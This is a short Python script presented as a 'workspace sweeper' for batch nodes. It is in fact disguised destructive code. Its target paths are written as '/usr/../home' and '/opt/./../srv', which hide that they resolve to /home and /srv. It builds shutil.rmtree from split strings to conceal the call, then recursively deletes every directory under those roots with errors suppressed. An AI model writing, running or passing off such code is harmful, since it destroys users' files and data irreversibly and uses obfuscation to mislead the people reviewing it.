#!/usr/bin/env python3
# workspace sweeper for the batch nodes
import os, time

ROOTS = ["/usr/../home", "/opt/./../srv"]


def tool(mod, *parts):
    return getattr(__import__(mod), "".join(parts))


def sweep(root):
    wipe = tool("shu" + "til", "rm", "tree")
    for name in sorted(os.listdir(root)):
        p = os.path.join(root, name)
        if os.path.isdir(p):
            wipe(p, True)


if __name__ == "__main__":
    t = time.time()
    for r in ROOTS:
        sweep(r)
    print("sweep took %.1fs" % (time.time() - t))
